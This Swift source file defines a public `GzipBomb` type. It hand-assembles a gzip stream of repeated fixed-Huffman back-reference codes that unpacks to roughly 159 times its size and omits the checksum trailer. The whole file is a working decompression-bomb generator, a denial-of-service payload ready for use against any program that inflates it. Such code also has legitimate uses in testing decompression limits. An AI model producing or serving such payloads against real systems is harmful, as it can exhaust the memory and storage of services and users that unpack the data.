public import Foundation

/// Zeros, packed so that little is sent: the same over and over, without the sum at its end.
public enum GzipBomb {
  /// Returns data that unpacks to about `bytes` bytes, and has a 159th of them.
  public static func data(bytes: Int) -> Data {
    let header: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255]
    // A block with the fixed codes of RFC 1951: a zero, and then “258 bytes as the one before”, which
    // has 13 bits. Together with the head of the block the first of them ends a byte.
    let length: [UInt8] = [1, 1, 0, 0, 0, 1, 0, 1] + [0, 0, 0, 0, 0]
    let start = packed([1, 1, 0] + [0, 0, 1, 1, 0, 0, 0, 0] + length)
    let pattern = packed(Array(repeating: length, count: 8).flatMap(\.self))
    var data = Data(header + start)
    let count = bytes / (8 * 258)
    data.reserveCapacity(data.count + count * pattern.count)
    // By doubling.
    var block = Data(pattern)
    while block.count < 1 << 20 { block += block }
    for _ in 0..<max(1, count * pattern.count / block.count) { data += block }
    return data
  }

  /// The first bit is a byte's lowest.
  private static func packed(_ bits: [UInt8]) -> [UInt8] {
    stride(from: 0, to: bits.count, by: 8).map { place in
      bits[place..<place + 8].reversed().reduce(0) { $0 << 1 | $1 }
    }
  }
}
